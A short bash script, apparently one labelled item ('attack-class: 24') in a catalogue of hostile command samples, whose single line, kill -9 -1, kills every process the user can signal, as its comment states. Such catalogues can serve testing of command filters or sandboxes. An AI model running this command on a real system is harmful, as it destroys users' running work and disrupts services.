#!/usr/bin/env bash
# attack-class: 24
# title: kill -9 -1
# why: kills every process the user can signal

kill -9 -1
